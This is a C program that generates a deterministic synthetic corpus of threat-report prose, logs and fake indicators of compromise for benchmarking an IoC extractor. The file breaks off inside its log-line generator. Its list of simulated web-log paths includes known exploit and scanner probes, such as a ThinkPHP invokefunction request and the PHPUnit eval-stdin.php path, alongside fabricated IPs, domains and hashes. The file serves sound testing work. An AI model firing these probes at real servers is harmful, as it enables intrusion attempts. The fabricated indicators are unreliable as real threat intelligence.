/*
 * gen_corpus: deterministic benchmark corpus for `tix extract`.
 *
 *   gen_corpus OUTDIR [MIB [text|bin|both]]
 *
 * Writes OUTDIR/text.txt and/or OUTDIR/bin.bin, each exactly MIB MiB
 * (default 256). The output depends only on MIB: the generator uses its own
 * PRNG (splitmix64-seeded xoshiro256**) from fixed seeds, integer arithmetic
 * only, and no locale or clock, so every run on every machine writes the
 * same bytes. A file is written as NAME.tmp and renamed when complete.
 *
 * text.txt is a mix of threat-report prose, headings, indicator lists,
 * syslog / access / DNS / proxy / firewall / JSON log lines, base64 blobs
 * and hex dumps, with IoCs (plain and defanged) and look-alike negatives
 * (version numbers, file names, GUIDs, MAC addresses, times) sprinkled in,
 * about one IoC per 300-500 bytes.
 *
 * bin.bin is random bytes with zero-padding runs and, every few KiB, an
 * embedded NUL-terminated ASCII or UTF-16LE string such as a PE would carry:
 * C2 URLs, domains, IP:port, user agents, registry paths, API names, config
 * blobs.
 *
 * Standalone C17, no dependencies: cc -O2 -o gen_corpus gen_corpus.c
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- PRNG -- */

static uint64_t rs[4];

static uint64_t splitmix64(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15u);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return z ^ (z >> 31);
}

static void seed(uint64_t s)
{
    for (int i = 0; i < 4; i++)
        rs[i] = splitmix64(&s);
}

static inline uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

static inline uint64_t next64(void)
{
    uint64_t r = rotl(rs[1] * 5, 7) * 9;
    uint64_t t = rs[1] << 17;
    rs[2] ^= rs[0];
    rs[3] ^= rs[1];
    rs[1] ^= rs[2];
    rs[0] ^= rs[3];
    rs[2] ^= t;
    rs[3] = rotl(rs[3], 45);
    return r;
}

/* uniform-enough integer in [0, n) */
static inline uint32_t rnd(uint32_t n) { return (uint32_t)(((next64() >> 32) * n) >> 32); }
/* integer in [lo, hi] */
static inline uint32_t rng(uint32_t lo, uint32_t hi) { return lo + rnd(hi - lo + 1); }
/* true with probability pct/100 */
static inline int chance(uint32_t pct) { return rnd(100) < pct; }

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))
#define PICK(a) ((a)[rnd((uint32_t)NELEM(a))])

/* -------------------------------------------------------------- output -- */

#define CHUNK (8u << 20)   /* flush threshold */
#define SLACK (256u << 10) /* no single block may exceed this */

static unsigned char *B;
static size_t BL;
static FILE *OF;
static uint64_t OWR, OTARGET;
static uint64_t NIOC; /* IoCs written (text corpus statistics) */

static void die(const char *what, const char *arg)
{
    fprintf(stderr, "gen_corpus: %s%s%s\n", what, arg ? ": " : "", arg ? arg : "");
    exit(1);
}

/* Write the buffer, cutting at the target size. When cut, the file ends in
 * a newline (for text) -- set by the caller via last_nl. */
static void flush_out(int last_nl)
{
    size_t n = BL;
    if (OWR + n > OTARGET)
        n = (size_t)(OTARGET - OWR);
    if (n && last_nl && OWR + n == OTARGET)
        B[n - 1] = '\n';
    if (n && fwrite(B, 1, n, OF) != n)
        die("write failed", NULL);
    OWR += n;
    BL = 0;
}

static inline void pc(int c) { B[BL++] = (unsigned char)c; }
static inline void pn(const char *s, size_t n)
{
    memcpy(B + BL, s, n);
    BL += n;
}
static inline void ps(const char *s) { pn(s, strlen(s)); }

static void pu(uint64_t v)
{
    char t[24];
    int n = 0;
    do {
        t[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n)
        pc(t[--n]);
}

static inline void p2(unsigned v)
{
    pc('0' + (int)(v / 10 % 10));
    pc('0' + (int)(v % 10));
}

static void phex(int n, int upper)
{
    const char *d = upper ? "0123456789ABCDEF" : "0123456789abcdef";
    while (n > 0) {
        uint64_t r = next64();
        for (int i = 0; i < 16 && n > 0; i++, n--, r >>= 4)
            pc(d[r & 15]);
    }
}

static void palnum(int n, const char *set)
{
    size_t k = strlen(set);
    for (int i = 0; i < n; i++)
        pc(set[rnd((uint32_t)k)]);
}

/* ----------------------------------------------------------- word lists -- */

static const char *const ACTORS[] = {
    "APT28", "APT29", "the Lazarus Group", "FIN7", "TA505", "Sandworm", "Turla", "Kimsuky",
    "UNC2452", "Scattered Spider", "the actor", "the threat actor", "the operators",
    "the intrusion set", "TA577", "Storm-0558", "Volt Typhoon", "Mustang Panda", "the affiliate",
};
static const char *const MALWARE[] = {
    "Emotet", "QakBot", "IcedID", "Cobalt Strike", "Sliver", "AsyncRAT", "Remcos", "AgentTesla",
    "LummaC2", "RedLine", "SmokeLoader", "PlugX", "ShadowPad", "BumbleBee", "Latrodectus",
    "DarkGate", "Pikabot", "GootLoader", "SocGholish", "Brute Ratel", "Havoc", "NjRAT",
};
static const char *const COMPONENTS[] = {
    "loader", "dropper", "stager", "backdoor", "implant", "beacon", "downloader", "infostealer",
    "webshell", "RAT", "first-stage payload", "second-stage payload", "shellcode runner",
    "reflective DLL", "C2 agent", "ransomware payload",
};
static const char *const TECHNIQUES[] = {
    "persistence", "lateral movement", "credential dumping", "process injection",
    "DLL side-loading", "privilege escalation", "defense evasion", "data exfiltration",
    "C2 communication", "discovery", "Kerberoasting", "LSASS memory access",
    "UAC bypass", "token impersonation", "domain trust discovery", "archive collection",
};
static const char *const MECHANISMS[] = {
    "a scheduled task", "a Run registry key", "a Windows service", "a WMI event subscription",
    "a startup folder shortcut", "a malicious DLL placed next to a signed binary",
    "a systemd unit", "a cron job", "a COM hijack", "an Office add-in",
};
static const char *const TOOLS[] = {
    "PowerShell", "rundll32.exe", "regsvr32.exe", "mshta.exe", "certutil.exe", "Mimikatz",
    "AdFind", "Rclone", "PsExec", "AnyDesk", "bitsadmin", "WMIC", "curl", "wget", "7-Zip",
    "Impacket", "SharpHound", "nltest", "net.exe", "schtasks.exe", "msiexec.exe",
};
static const char *const FILES[] = {
    "setup.exe", "readme.txt", "invoice.pdf.exe", "update.dll", "config.json", "payload.ps1",
    "libssl.so", "svchost.exe", "msedge_elf.dll", "report.docm", "document.lnk",
    "archive.zip", "install.msi", "stage2.bin", "main.py", "build.sh", "version.dll",
    "Invoice_2026-10.iso", "scan_0042.pdf", "update.js", "chrome_update.hta", "data.dat",
    "loader.vbs", "notes.one", "index.html", "debug.log",
};
static const char *const LURES[] = {
    "a phishing e-mail", "a malicious OneNote attachment", "a fake browser update",
    "a trojanized installer", "an ISO file", "a password-protected ZIP archive",
    "malvertising", "SEO poisoning", "a fake invoice", "a weaponized Word document",
    "a compromised software update", "a LinkedIn job offer",
};
static const char *const SECTORS[] = {
    "government", "healthcare", "financial", "energy", "telecommunications",
    "manufacturing", "education", "defense", "logistics", "retail", "legal",
};
static const char *const COUNTRIES[] = {
    "Ukraine", "Germany", "the United States", "South Korea", "Japan", "Brazil", "India",
    "Poland", "France", "Taiwan", "the United Kingdom", "Italy",
};
static const char *const REGKEYS[] = {
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend",
    "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
    "HKCU\\Environment\\UserInitMprLogonScript",
};
static const char *const WINPATHS[] = {
    "C:\\Users\\Public\\", "C:\\ProgramData\\", "%APPDATA%\\Microsoft\\", "%TEMP%\\",
    "C:\\Windows\\Temp\\", "%LOCALAPPDATA%\\Packages\\", "C:\\Windows\\System32\\",
    "/tmp/", "/var/tmp/.X11/", "/dev/shm/",
};
static const char *const HEADINGS[] = {
    "Executive summary", "Technical analysis", "Infection chain", "Initial access",
    "Persistence", "Command and control", "Lateral movement", "Exfiltration",
    "Attribution", "Detection opportunities", "Indicators of compromise", "MITRE ATT&CK mapping",
    "Timeline", "Recommendations", "Appendix A: network indicators", "Appendix B: file hashes",
};
static const char *const DWORDS[] = {
    "cdn", "update", "updates", "secure", "login", "mail", "api", "static", "cloud", "portal",
    "service", "office", "docs", "files", "sync", "verify", "account", "support", "news",
    "shop", "dl", "download", "img", "assets", "auth", "sso", "vpn", "remote", "web", "app",
    "host", "data", "stats", "track", "metrics", "telemetry", "windows", "microsoft", "msft",
    "azure", "google", "apple", "adobe", "zoom", "teams", "onedrive", "dropbox", "github",
    "example", "global", "online", "live", "my", "best", "free", "fast", "safe", "trust",
    "check", "connect", "panel", "gate", "node", "edge", "proxy", "relay", "invoice", "pay",
};
/* weighted: com and a few others are more common */
static const char *const TLDS[] = {
    "com", "com", "com", "com", "net", "net", "org", "ru", "ru", "xyz", "top", "info",
    "io", "de", "cn", "su",
};
static const char *const FIRST[] = {"john", "anna", "mike", "olga", "li", "maria", "peter",
                                    "sara", "alex", "ivan", "chen", "fatima", "tom", "eva"};
static const char *const LAST[] = {"smith", "mueller", "ivanov", "chen", "garcia", "kim",
                                   "nowak", "rossi", "dubois", "tanaka", "silva", "brown"};
static const char *const ROLES[] = {"admin", "support", "billing", "info", "noreply", "hr",
                                    "security", "it-helpdesk", "accounts", "postmaster"};
static const char *const UPATHS[] = {
    "gate.php", "index.php", "admin/get.php", "wp-content/uploads/2026/10/invoice.zip",
    "wp-includes/js/jquery/jquery.min.js", "api/v1/beacon", "api/v2/tasks",
    "download/update.exe", "files/setup.msi", "static/js/app.js", "images/logo.png",
    "pixel.gif", "submit.php", "panel/login.php", "b/upload", "c2/checkin",
    "owa/auth/logon.aspx", "login.html", "news/article.html", "dl/payload.bin",
    "ajax/libs/jquery/3.6.0/jquery.min.js", "favicon.ico", "", "", "s/ref=nb_sb_noss",
    "cgi-bin/index.cgi", "assets/fonts/roboto.woff2", "updates/check", "ping",
};
static const char *const LOGPATHS[] = {
    "/", "/index.html", "/robots.txt", "/.env", "/wp-login.php", "/xmlrpc.php",
    "/favicon.ico", "/api/v1/users?page=2", "/static/css/main.css", "/login",
    "/cgi-bin/luci/;stok=/locale", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.git/config", "/admin/config.php", "/owa/auth/x.js", "/images/banner.jpg",
    "/search?q=invoice+2026", "/hudson", "/actuator/health", "/boaform/admin/formLogin",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
};
static const char *const UAS[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64; Trident/7.0)",
    "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3",
    "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "-",
};
static const char *const HOSTS[] = {"web01", "web02", "dc01", "mail", "fw-edge", "vpn-gw",
                                    "build-07", "db-prod-2", "jump01", "proxy"};
static const char *const MONTHS[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                     "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
static const char *const BTC[] = {
    /* valid checksums; generated once with a reference implementation */
    "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
    "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "18QT4MrJHZ7aM7cyrcS3Ai3WnBiadh3LMq",
    "349mzRabXuxKGgFbRrVA6XebuQNV3YQH8S", "13k3eqY8nToHwx5ePC9RH8gHUSkAP6mStG",
    "3GSZ8gA3WjL3cTTNMgHGpjVKmSvKzv8Xix", "14UTaN1SoWcaSJKgm9oGhP4aEibnPiKuGN",
    "3EtYUPygcab7UsnnjSh8Upm92a92EZDEkw", "bc1q4d2yek7htqlqksc2lr0lg5a7ylcsf5u95knsrv",
    "bc1qhwvc8kd6u7kksj8qvxpnhxhrc2f9hsqf9darja", "bc1q7tnfyk5t8czlu27h338exq6vgzg65z3wtmspjl",
    "bc1pz26fx88umtq93cq6rt55nygwz9mk69g6k50jsve24c6v9d96czksfvemup",
};
static const char *const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
static const char *const LOWER = "abcdefghijklmnopqrstuvwxyz";
static const char *const LOWDIG = "abcdefghijklmnopqrstuvwxyz0123456789";

/* ------------------------------------------------------------- IoC text -- */

static const unsigned char IPFIRST[] = {185, 45, 91, 193, 194, 5, 77, 103, 146, 162, 198,
                                        203, 209, 23, 104, 8, 31, 37, 62, 80, 89, 141, 176, 212};

static void p_private_ip(void)
{
    NIOC++;
    if (chance(60)) {
        ps("10.");
        pu(rnd(256));
        pc('.');
    } else {
        ps("192.168.");
    }
    pu(rnd(256));
    pc('.');
    pu(rng(1, 254));
}

/* IPv4, plain or defanged; counted as one IoC */
static void p_ipv4(int may_defang)
{
    NIOC++;
    uint32_t a = PICK(IPFIRST), b = rnd(256), c = rnd(256), d = rng(1, 254);
    int style = may_defang ? (int)rnd(10) : 0;
    const char *dot = ".";
    const char *last = ".";
    switch (style) {
    case 5: case 6: last = "[.]"; break;             /* 1.2.3[.]4 */
    case 7: dot = last = "[.]"; break;               /* 1[.]2[.]3[.]4 */
    case 8: last = "(.)"; break;
    case 9: pu(a), pc('.'), pu(b), pc('.'), pu(c), ps(".0/"), pu(rng(16, 30)); return; /* CIDR */
    default: break;
    }
    pu(a), ps(dot), pu(b), ps(dot), pu(c), ps(last), pu(d);
}

static void p_label(void)
{
    switch (rnd(8)) {
    case 0: case 1: case 2: ps(PICK(DWORDS)); break;
    case 3: case 4: ps(PICK(DWORDS)), pc('-'), ps(PICK(DWORDS)); break;
    case 5: ps(PICK(DWORDS)), pu(rng(1, 99)); break;
    case 6: palnum((int)rng(5, 12), LOWER); break;
    default: palnum(1, LOWER), palnum((int)rng(4, 11), LOWDIG); break;
    }
}

/* domain; style: 0 plain, else defanged in one of several ways */
static void p_domain_sty(int style)
{
    const char *dot = ".", *last = ".";
    switch (style) {
    case 0: break;
    case 1: case 2: case 3: last = "[.]"; break;
    case 4: dot = last = "[.]"; break;
    case 5: last = "(dot)"; break;
    case 6: dot = last = "[dot]"; break;
    case 7: last = "(.)"; break;
    default: last = " [.] "; break;
    }
    if (chance(35)) {
        p_label();
        ps(dot);
    }
    p_label();
    ps(last);
    ps(PICK(TLDS));
}

static void p_domain(int may_defang)
{
    NIOC++;
    p_domain_sty(may_defang && chance(45) ? (int)rng(1, 8) : 0);
}

static void p_urlpath(void)
{
    pc('/');
    ps(PICK(UPATHS));
    switch (rnd(10)) {
    case 0: case 1: case 2: ps("?id="), pu(rnd(100000)); break;
    case 3: ps("?uid="), phex(16, 0), ps("&v=2"); break;
    case 4: ps("?q="), ps(PICK(DWORDS)), pc('+'), ps(PICK(DWORDS)); break;
    default: break;
    }
}

static void p_url(int may_defang)
{
    NIOC++;
    int def = may_defang && chance(50);
    int https = chance(55);
    if (def) {
        switch (rnd(5)) {
        case 0: case 1: ps(https ? "hxxps://" : "hxxp://"); break;
        case 2: ps(https ? "hXXps://" : "hXXp://"); break;
        case 3: ps(https ? "https[:]//" : "http[:]//"); break;
        default: ps(https ? "hxxps[://]" : "hxxp[://]"); break;
        }
    } else {
        ps(chance(3) ? "ftp://" : https ? "https://" : "http://");
    }
    if (chance(15)) {
        uint32_t a = PICK(IPFIRST);
        pu(a), pc('.'), pu(rnd(256)), pc('.'), pu(rnd(256)), ps(def ? "[.]" : "."), pu(rng(1, 254));
    } else {
        p_domain_sty(def ? (int)rng(1, 4) : 0);
    }
    if (chance(12))
        pc(':'), pu(PICK(((const uint32_t[]){8080, 8443, 443, 4444, 8888, 2083, 81})));
    p_urlpath();
}

static void p_email(int may_defang)
{
    NIOC++;
    switch (rnd(4)) {
    case 0: ps(PICK(ROLES)); break;
    case 1: ps(PICK(FIRST)), pc('.'), ps(PICK(LAST)); break;
    case 2: ps(PICK(FIRST)), pu(rng(1, 99)); break;
    default: palnum((int)rng(6, 12), LOWDIG); break;
    }
    int s = may_defang ? (int)rnd(8) : 0;
    switch (s) {
    case 5: ps("[@]"), p_domain_sty(1); break;       /* user[@]host[.]com */
    case 6: ps("(at)"), p_domain_sty(5); break;      /* user(at)host(dot)com */
    case 7: ps(" [at] "), p_domain_sty(6); break;    /* user [at] host[dot]com */
    default: pc('@'), p_domain_sty(0); break;
    }
}

static void p_hash_n(int n)
{
    NIOC++;
    phex(n, chance(10));
}

static void p_hash(void) { p_hash_n(PICK(((const int[]){32, 40, 64, 64}))); }

static void p_cve(void)
{
    NIOC++;
    ps(chance(5) ? "cve-" : "CVE-");
    pu(rng(2014, 2026));
    pc('-');
    if (chance(80))
        pu(rng(1000, 9999));
    else
        pu(rng(10000, 52000));
}

static void p_btc(void)
{
    NIOC++;
    ps(PICK(BTC));
}

static void p_ipv6(void)
{
    NIOC++;
    ps(PICK(((const char *const[]){"2a03:2880:", "2001:db8:", "2606:4700:", "2a01:4f8:"})));
    phex((int)rng(1, 4), 0), pc(':'), phex((int)rng(1, 4), 0);
    if (chance(50))
        ps("::"), phex((int)rng(1, 4), 0);
    else
        pc(':'), phex(4, 0), pc(':'), phex(4, 0), pc(':'), phex(3, 0), pc(':'), phex(4, 0);
}

/* any IoC, weighted */
static void p_ioc(void)
{
    switch (rnd(20)) {
    case 0: case 1: case 2: case 3: p_ipv4(1); break;
    case 4: case 5: case 6: case 7: p_domain(1); break;
    case 8: case 9: case 10: case 11: p_url(1); break;
    case 12: case 13: p_email(1); break;
    case 14: case 15: case 16: p_hash(); break;
    case 17: case 18: p_cve(); break;
    default: p_btc(); break;
    }
}

/* ----------------------------------------------------- negative look-alikes */

static void p_version(void)
{
    switch (rnd(7)) {
    case 0: pu(rng(1, 9)), pc('.'), pu(rnd(20)), pc('.'), pu(rnd(30)); break;      /* 1.2.3 */
    case 1: ps("10.0."), pu(PICK(((const uint32_t[]){17763, 19041, 19045, 22621, 22631, 26100}))),
            pc('.'), pu(rng(1, 4000)); break;                                   /* 10.0.19041.1 */
    case 2: pu(rng(1, 9)), pc('.'), pu(rnd(10)), pc('.'), pu(rnd(10)), pc('.'), pu(rnd(10)),
            pc('.'), pu(rnd(10)); break;                                        /* 1.2.3.4.5 */
    case 3: pc('v'), pu(rng(1, 5)), pc('.'), pu(rnd(20)), pc('.'), pu(rnd(20)), pc('.'),
            pu(rnd(200)); break;                                                /* v1.2.3.4 */
    case 4: ps("4.18."), pu(rng(2200, 2411)), pc('.'), pu(rng(1, 9)); break;
    case 5: pu(rng(1, 3)), pc('.'), pu(rnd(10)), ps("-rc"), pu(rng(1, 5)); break;
    default: pu(rng(1, 9)), pc('.'), pu(rnd(100)); break;
    }
}

static void p_guid(void)
{
    phex(8, 1), pc('-'), phex(4, 1), pc('-'), phex(4, 1), pc('-'), phex(4, 1), pc('-'), phex(12, 1);
}

static void p_mac(void)
{
    for (int i = 0; i < 6; i++) {
        if (i)
            pc(':');
        phex(2, 1);
    }
}

/* ------------------------------------------------------------ the clock -- */

static unsigned cy = 2026, cmo = 10, cd = 2, chh = 0, cmi = 0, cse = 0;

static unsigned mdays(unsigned y, unsigned m)
{
    static const unsigned d[] = {31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
    return d[m - 1] + (m == 2 && y % 4 == 0 && (y % 100 != 0 || y % 400 == 0));
}

static void tick(unsigned s)
{
    cse += s;
    cmi += cse / 60, cse %= 60;
    chh += cmi / 60, cmi %= 60;
    while (chh >= 24) {
        chh -= 24;
        if (++cd > mdays(cy, cmo)) {
            cd = 1;
            if (++cmo > 12)
                cmo = 1, cy++;
        }
    }
}

static void p_time(void) { p2(chh), pc(':'), p2(cmi), pc(':'), p2(cse); }
static void p_date(void) { pu(cy), pc('-'), p2(cmo), pc('-'), p2(cd); }
static void p_iso(int ms)
{
    p_date(), pc('T'), p_time();
    if (ms)
        pc('.'), pu(rng(100, 999));
    pc('Z');
}
static void p_randdate(void)
{
    pu(rng(2019, 2026)), pc('-'), p2(rng(1, 12)), pc('-'), p2(rng(1, 28));
}
static void p_randtime(void) { p2(rnd(24)), pc(':'), p2(rnd(60)), pc(':'), p2(rnd(60)); }

/* ------------------------------------------------------------- prose ---- */

/* Sentences with IoCs. Placeholders: %A actor %M malware %K component
 * %Q technique %Z mechanism %T tool %F file name %L lure %S sector
 * %G country %r registry key %w path; IoCs: %i ipv4 %d domain %u url
 * %e e-mail %h hash %5 md5 %1 sha1 %2 sha256 %c cve %b btc %6 ipv6
 * %I any IoC; look-alikes and numbers: %v version %g GUID %a MAC
 * %x time %t date %p port %n number %X two hex digits */
static const char *const SENT_IOC[] = {
    "The actor used %T to download %F from %u.",
    "The %K connects to %d over TCP port %p and beacons every %n seconds.",
    "C2 traffic was observed to %i on port %p and to %d.",
    "The sample (SHA256: %2) was first submitted on %t.",
    "We observed exploitation of %c against internet-facing %S servers.",
    "The %M %K (MD5 %5) drops %F into %w and executes it.",
    "The payload is retrieved from %u and decoded with %T.",
    "Victims in the %S sector in %G received e-mails from %e.",
    "Network telemetry shows DNS requests for %d followed by HTTPS connections to %i.",
    "The infrastructure overlaps with previously reported %M servers such as %d and %d.",
    "Ransom payments were requested to the wallet %b.",
    "The campaign abused %c and %c to gain a foothold.",
    "Exfiltration was performed with %T to a server at %i.",
    "At %x UTC the beacon switched to %u.",
    "Related samples share the SHA1 hash %1 in their resources.",
    "The sinkholed domain %d resolved to %i until %t.",
    "IPv6 infrastructure at %6 was also used.",
    "Defenders should block %I and %I at the perimeter.",
    "The %M panel was hosted at %u until it was taken down.",
    "Phishing messages were sent from %e and spoofed the domain %d.",
    "The %K contacted %I, %I and %I in that order.",
    "Several hosts logged failed logons from %i shortly before the %K was installed.",
    "Patch to version %v or later to fix %c.",
};

/* Sentences without IoCs (same placeholders). */
static const char *const SENT_FILL[] = {
    "%A used %L to deliver the %M %K.",
    "Persistence is established via %Z that runs %F at logon.",
    "After initial access, the operators performed %Q using %T.",
    "Version %v of the %K adds support for %Q.",
    "The implant creates the mutex Global\\{%g} to avoid running twice.",
    "No additional %K activity was observed after %t.",
    "The %K checks the system locale and exits if the keyboard layout matches %G.",
    "Analysts recovered a configuration block listing %n fallback servers.",
    "Windows build %v was the most common among affected hosts.",
    "The %T command line referenced %F and the registry key %r.",
    "Hosts running version %v are not affected.",
    "The dropper writes the second stage to %w%F and executes it via %T.",
    "%A has targeted %S organizations in %G since at least %t.",
    "The %K is written in C++ and packed with a custom crypter.",
    "We assess with moderate confidence that this activity is linked to %A.",
    "The loader uses %Q and %Q before contacting its C2.",
    "Strings are decrypted at runtime with a single-byte XOR key of 0x%X.",
    "The MAC address %a was hard-coded in the sample as a sandbox check.",
    "The document contains a macro that runs %T with an encoded command.",
    "A second wave started on %t and used the lure %F.",
    "It reads the file %F, which is not malicious by itself.",
    "Samples compiled on %t contain the PDB path C:\\Users\\dev\\source\\repos\\%M\\Release\\%F.",
    "The operators set up %n virtual machines to stage data before exfiltration.",
    "The %K downloads a PNG image that hides a %M payload using steganography.",
    "Its user agent string imitates Chrome on Windows 10.",
    "The %K is delivered as %F inside an archive.",
    "Execution begins when the victim opens %F.",
    "%A continues to refine its tooling and tradecraft.",
    "The %M %K uses %Q to hinder analysis.",
    "We track this cluster of activity as %A.",
    "The initial access vector in most cases was %L.",
    "Once running, the %K collects the host name, user name and domain membership.",
    "The collected data is compressed, encrypted with AES-256 and sent in chunks.",
    "Most victims were located in %G and %G.",
    "The %K was compiled with Visual Studio 2019 (version %v).",
    "The operators moved laterally using %T and stolen credentials.",
    "Detection rules for %Q should focus on parent-child process relationships.",
    "The actor used %T to enumerate domain admins.",
    "Persistence relies on %Z.",
    "The second stage is a %M %K that loads its configuration from the registry.",
    "During the intrusion, the operators disabled security tooling via %T.",
    "The %K sleeps for %n seconds between check-ins, with up to 30 percent jitter.",
    "Analysis of the %K revealed a custom string obfuscation routine.",
    "Code overlaps suggest a shared developer between %M and %M.",
    "The earliest sample we identified was compiled on %t.",
    "The file %F is a legitimate component that is abused for side-loading.",
    "Affected versions range from %v to %v.",
    "The %K supports the commands shell, upload, download, sleep and exit.",
    "Telemetry indicates that the campaign peaked on %t.",
    "The actor registered new infrastructure roughly every %n days.",
    "The installer drops %F and %F into %w.",
    "Communication uses HTTPS with a hard-coded certificate.",
    "Traffic is encoded with base64 and a rolling XOR key of 0x%X.",
    "A scheduled task named %M Update runs the %K every %n minutes.",
    "The %M operators rely heavily on living-off-the-land binaries such as %T.",
    "We notified affected organizations in the %S sector.",
    "The ransom note is written to %w%F.",
    "Library version %v is statically linked into the %K.",
    "Hunting queries for this activity are provided in the appendix.",
    "This behavior is consistent with earlier operations attributed to %A.",
    "The loader resolves API functions by hash to evade static detection.",
    "All time stamps in this report are in UTC (for example %x).",
    "Organizations should review %T usage and restrict it where possible.",
    "The %K terminates if it detects a debugger or a virtual machine.",
    "In several cases the dwell time exceeded %n days.",
    "The configuration is stored in a resource named %X%X and decrypted with RC4.",
    "We observed the same tactics in an incident response engagement in %G.",
};

static void p_ph(char k)
{
    switch (k) {
    case 'A': ps(PICK(ACTORS)); break;
    case 'M': ps(PICK(MALWARE)); break;
    case 'K': ps(PICK(COMPONENTS)); break;
    case 'Q': ps(PICK(TECHNIQUES)); break;
    case 'Z': ps(PICK(MECHANISMS)); break;
    case 'T': ps(PICK(TOOLS)); break;
    case 'F': ps(PICK(FILES)); break;
    case 'L': ps(PICK(LURES)); break;
    case 'S': ps(PICK(SECTORS)); break;
    case 'G': ps(PICK(COUNTRIES)); break;
    case 'r': ps(PICK(REGKEYS)); break;
    case 'w': ps(PICK(WINPATHS)); break;
    case 'i': p_ipv4(1); break;
    case 'd': p_domain(1); break;
    case 'u': p_url(1); break;
    case 'e': p_email(1); break;
    case 'h': p_hash(); break;
    case '5': p_hash_n(32); break;
    case '1': p_hash_n(40); break;
    case '2': p_hash_n(64); break;
    case 'c': p_cve(); break;
    case 'b': p_btc(); break;
    case '6': p_ipv6(); break;
    case 'I': p_ioc(); break;
    case 'v': p_version(); break;
    case 'g': p_guid(); break;
    case 'a': p_mac(); break;
    case 'x': p_randtime(); break;
    case 't': p_randdate(); break;
    case 'p': pu(PICK(((const uint32_t[]){443, 80, 8080, 8443, 4444, 53, 22, 3389, 1337}))); break;
    case 'n': pu(rng(2, 300)); break;
    case 'X': phex(2, 1); break;
    default: pc('%'), pc(k); break;
    }
}

static void p_sentence(void)
{
    const char *s = chance(9) ? PICK(SENT_IOC) : PICK(SENT_FILL);
    size_t start = BL;
    for (; *s; s++) {
        if (*s == '%' && s[1])
            p_ph(*++s);
        else
            pc(*s);
    }
    if (B[start] >= 'a' && B[start] <= 'z')
        B[start] = (unsigned char)(B[start] - 'a' + 'A');
}

/* A paragraph; wrapped at ~76 columns half of the time. */
static void blk_prose(void)
{
    int n = (int)rng(3, 8), wrap = chance(50);
    size_t start = BL, col0 = BL;
    for (int i = 0; i < n; i++) {
        if (i)
            pc(' ');
        p_sentence();
    }
    if (wrap) { /* replace spaces with newlines past column 76 */
        size_t lastsp = 0;
        for (size_t j = start; j < BL; j++) {
            if (B[j] == ' ')
                lastsp = j;
            if (j - col0 >= 76 && lastsp > col0) {
                B[lastsp] = '\n';
                col0 = lastsp + 1;
            }
        }
    }
    ps("\n\n");
}

static void blk_heading(void)
{
    ps(PICK(((const char *const[]){"## ", "### ", "", "# "})));
    ps(PICK(HEADINGS));
    ps("\n\n");
}

/* indicator list, table or CSV */
static void blk_ioclist(void)
{
    int n = (int)rng(3, 12);
    switch (rnd(3)) {
    case 0:
        ps("Indicators of compromise (defanged):\n\n");
        for (int i = 0; i < n; i++) {
            ps(PICK(((const char *const[]){"- ", "* ", "  "})));
            p_ioc();
            pc('\n');
        }
        break;
    case 1:
        ps("| SHA256 | File name | Description |\n|---|---|---|\n");
        for (int i = 0; i < n; i++) {
            ps("| "), p_hash_n(64), ps(" | "), ps(PICK(FILES)), ps(" | "), ps(PICK(MALWARE)),
                pc(' '), ps(PICK(COMPONENTS)), ps(" |\n");
        }
        break;
    default:
        ps("type,value,first_seen,comment\n");
        for (int i = 0; i < n; i++) {
            switch (rnd(4)) {
            case 0: ps("ipv4,"), p_ipv4(1); break;
            case 1: ps("domain,"), p_domain(1); break;
            case 2: ps("url,"), p_url(1); break;
            default: ps("md5,"), p_hash_n(32); break;
            }
            pc(','), p_randdate(), pc(','), ps(PICK(MALWARE)), pc(' '), ps(PICK(COMPONENTS)), pc('\n');
        }
        break;
    }
    pc('\n');
}

static void p_clf_time(void)
{
    pc('['), p2(cd), pc('/'), ps(MONTHS[cmo - 1]), pc('/'), pu(cy), pc(':'), p_time(),
        ps(" +0000]");
}

static void log_line(int kind)
{
    tick(rnd(6));
    switch (kind) {
    case 0: /* web access log, combined format */
        if (chance(50)) p_ipv4(0); else p_private_ip();
